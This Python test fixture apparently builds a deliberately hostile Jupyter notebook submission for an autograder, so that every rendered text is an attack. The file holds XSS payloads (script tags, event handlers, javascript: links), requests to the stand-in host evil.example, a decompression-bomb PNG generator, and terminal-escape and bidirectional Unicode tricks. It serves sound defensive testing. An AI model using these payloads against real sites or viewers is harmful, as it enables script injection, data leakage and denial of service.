"""A submission in which every text that can reach a page is an attack: code, outputs, errors, names, comments.

In: the assignment. Out: a notebook that runs and is graded like any other, and a student's name. Whatever of it comes
alive in a browser sets the global `owned`, writes to the console, opens a dialog, or asks http://evil.example/.
"""

from __future__ import annotations

import base64
import json
import struct
import zlib

from autograder.grading.assignment import Assignment
from autograder.grading.scheme import filled_in

MARKUP = (
    "</code></pre></textarea></style></title></svg>--><script>owned=1;console.log('owned');alert('owned')</script>"
    "<img src=x onerror=owned=1><body onload=owned=1><details open ontoggle=owned=1>"
    "<svg onload=owned=1><image href='http://evil.example/a.svg'/></svg>"
    "<style>@import url(http://evil.example/b.css);*{display:none!important;background:url(http://evil.example/c)}</style>"
    "<link rel=stylesheet href=http://evil.example/d.css><iframe src='javascript:parent.owned=1'></iframe>"
    "<meta http-equiv=refresh content='0;url=http://evil.example/e'><base href=http://evil.example/>"
    "<form action=http://evil.example/f><input autofocus onfocus=owned=1></form>"
    "<a href='javascript:owned=1'>open me</a><div style='position:fixed;inset:0;background:url(http://evil.example/g)'>"
    '" onmouseover="owned=1" {{ 7 * 7 }} {% raw %}'
)
UNSEEN = "\x1b[31mred\x1b[2J\x07 \u202edesrever\u202c \u2066\u2067 \u200bzero\u200d\ufeff \u2028 a" + "\u0301" * 40
NAME = "mallory<img src=x onerror=owned=1>'\"&"
WRITTEN = f"[open](javascript:owned=1) ![look](http://evil.example/h.png)\n\n{MARKUP}\n\n{UNSEEN}\n\n{'endless' * 5000}"


def bomb() -> str:
    """A PNG in base64 that is small and asks for gigabytes when it is drawn: 30,000 by 30,000 white pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    side = 30_000
    pack = zlib.compressobj(9)
    row = b"\0" + b"\xff" * (side // 8)
    pixels = b"".join([pack.compress(row * 100) for _ in range(side // 100)]) + pack.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    return base64.b64encode(png).decode()


def notebook(assignment: Assignment) -> dict:
    """Mallory's work. Two answers raise, two are wrong, one hands out a strange object, one is right and endless."""
    said, unseen, image = repr(MARKUP), repr(UNSEEN), bomb()
    comment = f"# {UNSEEN}\n# {MARKUP}"
    live = [
        f"image = '{image}'",
        f"from IPython.display import HTML, Javascript, SVG, display\n{comment}\ndisplay(HTML({said}))",
        "display(Javascript(\"owned=1;alert('owned')\"))",
        f"display(SVG(\"<svg xmlns='http://www.w3.org/2000/svg' onload='owned=1'></svg>\"))\nprint({said}, {unseen})",
        "display({'image/png': image, 'text/html': f'<img src=\"data:image/png;base64,{image}\">'}, raw=True)",
        f"display({{'text/markdown': {said}, 'text/latex': {said}, 'application/json': {said}}}, raw=True)",
        "for number in range(100_000):\n    print(number, 'print without end')",
    ]
    answers = {
        "project": [
            *live,
            f"{comment}\ndef project(x, W_query, W_key, W_value):\n"
            f"    '''{MARKUP}'''\n    raise ValueError({unseen} + {said})  # {MARKUP}",
        ],
        "attention_scores": [
            f"{comment}\ndef attention_scores(queries, keys):\n    return type({said}, (), {{}})()",
        ],
        "scaled_softmax": [
            f"endless = '{'A<&' * 30_000}'\nbomb = 'data:image/png;base64,{'A' * 100_000}'\n"
            f"def scaled_softmax(scores, d_k):\n    return torch.softmax(scores / d_k**0.5, dim=-1)\n"
            + "\n".join(f"# line {number} {MARKUP}" for number in range(300)),
        ],
        "context_vector": [f"{comment}\ndef context_vector(weights, values):\n    return weights @ values + 1"],
        "SelfAttention_v1": [
            f"class SelfAttention_v1(nn.Module):\n    def __init__(self, d_in, d_out):\n        super().__init__()\n"
            f"        self.register_parameter({MARKUP.replace('.', '_')!r}, nn.Parameter(torch.rand(d_in, d_out)))\n"
            f"    def forward(self, x):\n        return x @ next(self.parameters())",
        ],
        "SelfAttention_v2": [
            f"{comment}\nclass SelfAttention_v2(nn.Module):\n    def __init__(self, *sizes, **more):\n"
            f"        raise type({said}, (Exception,), {{}})({said} * 100)",
        ],
    }
    made = json.loads(json.dumps(filled_in(assignment.release, answers)))
    for cell in made["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "why_scale":
            cell["source"] = WRITTEN
    own = {"cell_type": "markdown", "id": "own-text", "metadata": {}, "source": WRITTEN}
    return {**made, "cells": [*made["cells"], own]}
